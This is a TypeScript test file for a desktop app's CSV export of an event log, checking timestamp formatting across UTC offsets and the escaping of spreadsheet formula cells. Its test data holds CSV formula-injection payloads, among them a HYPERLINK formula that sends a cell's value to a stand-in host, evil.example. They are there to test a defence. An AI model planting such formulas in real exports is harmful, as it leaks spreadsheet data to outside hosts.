import { describe, expect, it } from 'vitest';
import Database from 'better-sqlite3';
import { migrate } from '../../src/main/core/store/db';
import { ANALYTICS_MIGRATIONS } from '../../src/main/core/store/analytics-schema';
import { csvChunks } from '../../src/main/core/store/csv-lines';
import { CATEGORIES } from '../../src/shared/analytics';

// The lines must read exactly as the per-row strftime query wrote them before (kept here as the reference).
// A cell a spreadsheet would run as a formula starts with an apostrophe, inside quotes.
const quoted = (col: string): string =>
  `CASE WHEN substr(${col}, 1, 1) IN ('=', '+', '-', '@', char(9), char(13)) THEN '"''' || replace(${col}, '"', '""') || '"'
   WHEN instr(${col}, '"') OR instr(${col}, ',') OR instr(${col}, char(10)) OR instr(${col}, char(13)) THEN '"' || replace(${col}, '"', '""') || '"' ELSE ${col} END`;
const reference = (offsetMin: number): string =>
  `SELECT strftime('%Y-%m-%dT%H:%M:%fZ', ts / 1000.0, 'unixepoch') || ',' || strftime('%Y-%m-%d %H:%M:%S', ts / 1000.0, 'unixepoch', '${offsetMin} minutes') || ',' ||
   CASE category ${CATEGORIES.map((c, i) => `WHEN ${i} THEN '${c}'`).join(' ')} END || ',' || ${quoted('type')} || ',' || ${quoted('source')} || ',' || ${quoted('detail')} || char(13, 10)
   FROM events WHERE ts >= ? AND ts < ? ORDER BY ts, id`;

describe('CSV lines of the event log', () => {
  it('read exactly as strftime wrote them: any offset, ms and minute edges, before 1970, quoting, bursts, in time order', () => {
    const db = new Database(':memory:');
    migrate(db, ANALYTICS_MIGRATIONS);
    let seed = 20261203;
    const random = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const base = Date.UTC(2026, 11, 31, 23, 59, 59, 998);
    const stamps = [1, base, base + 1, base + 2, base + 61_001, Date.UTC(2024, 1, 29, 12), -1, -59_999, -60_000, -86_400_001];
    for (let i = 0; i < 3_000; i++) stamps.push(Math.floor(random() * 4_102_444_800_000)); // 1970–2100
    for (let i = 0; i < 3_000; i++) stamps.push(base - 5_000 + Math.floor(random() * 10_000)); // a burst
    const details = ['plain', 'has, comma', 'has "quotes"', 'line\nbreak', 'cr\rhere', 'naïve ✓', '', '=HYPERLINK("http://x/?"&A1,"Click")', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'a=b'];
    const put = db.prepare('INSERT INTO events (ts, category, type, source, detail) VALUES (?, ?, ?, ?, ?)');
    stamps.forEach((ts, i) => put.run(ts, i % CATEGORIES.length, i % 5 ? 'allowed' : 'den,ied', i % 7 ? 'door' : 'de"sk', details[i % details.length]));
    const from = -86_400_001;
    const to = 4_102_444_800_000;
    for (const offsetMin of [0, 60, -300, 330, 345, -570, 840]) {
      const want = (db.prepare(reference(offsetMin)).pluck().all(from, to) as string[]).join('');
      let got = '';
      let rows = 0;
      for (const part of csvChunks(db, '1', [], [{ from, to, offsetMin }], stamps.length, 200)) {
        got += part.text;
        rows += part.rows;
      }
      expect(rows).toBe(stamps.length);
      // Same lines; rows with the same ms may come in either order, so compare sorted as well as whole.
      expect(got.split('\r\n').sort()).toEqual(want.split('\r\n').sort());
      expect(got.length).toBe(want.length);
      const utc = got.split('\r\n').filter(Boolean).map((l) => l.slice(0, 24));
      expect(utc).toEqual([...utc].sort()); // ISO text sorts as time does
    }
    expect(db.prepare("SELECT COUNT(*) FROM temp.sqlite_master WHERE name LIKE 'csv_minutes_%'").pluck().get()).toBe(0);
    db.close();
  });

  it('opens a cell a spreadsheet would run as a formula with an apostrophe, and refuses an offset that is not whole minutes', () => {
    const db = new Database(':memory:');
    migrate(db, ANALYTICS_MIGRATIONS);
    db.prepare('INSERT INTO events (ts, category, type, source, detail) VALUES (?, 0, ?, ?, ?)').run(60_000, 'connected', '@evil', '=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    const [part] = [...csvChunks(db, '1', [], [{ from: 0, to: 120_000, offsetMin: 0 }], 1)];
    expect(part!.text).toBe(`1970-01-01T00:01:00.000Z,1970-01-01 00:01:00,${CATEGORIES[0]},connected,"'@evil","'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"\r\n`);
    expect(() => [...csvChunks(db, '1', [], [{ from: 0, to: 120_000, offsetMin: NaN }], 1)]).toThrow(/bad UTC offset/);
    db.close();
  });
});
